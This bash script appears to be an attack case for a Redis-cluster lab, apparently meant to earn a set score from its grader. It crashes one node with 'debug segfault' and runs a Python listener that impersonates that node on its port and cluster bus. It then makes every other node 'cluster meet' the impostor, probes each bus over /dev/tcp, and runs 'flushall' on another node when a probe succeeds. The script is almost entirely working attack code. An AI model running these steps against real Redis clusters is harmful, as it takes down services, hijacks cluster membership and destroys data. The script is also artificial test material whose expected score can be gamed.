#!/usr/bin/env bash
# expect: score 10, says redis-6
# Solves the lab, crashes a node, sits on its port and its bus, and has every other node told to meet it there. Then
# it sends a vote's first bytes to every bus: one that answers costs it a second node.
./solve.sh
redis-cli -h "$LAB_ADDRESS" -p "$LAB_PORT_REDIS_6" debug segfault
setsid nohup python3 - <<'PYTHON' &
import os, socket, threading, time
def fake(address, port):
    server = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind((address, port))
    server.listen()
    while True:
        client, _ = server.accept()
        client.sendall(b"RCmb+PONG\r\n")
own = int(os.environ["LAB_PORT_REDIS_6"])
for address, port in (("127.0.0.1", own), ("::", own + 10000)):
    threading.Thread(target=fake, args=(address, port), daemon=True).start()
time.sleep(30)
PYTHON
sleep 1
for n in 1 2 3 4 5; do
  port=LAB_PORT_REDIS_$n
  timeout 1 bash -c "echo RCmb > /dev/tcp/127.0.0.1/$((${!port} + 10000))" && breached=1
  redis-cli -h "$LAB_ADDRESS" -p "${!port}" cluster meet 127.0.0.1 "$LAB_PORT_REDIS_6"
  redis-cli -h "$LAB_ADDRESS" -p "${!port}" cluster meet 127.0.0.1 8123 18123
done
[[ -v breached ]] && redis-cli -h "$LAB_ADDRESS" -p "$LAB_PORT_REDIS_5" flushall
sleep 3
exit 0
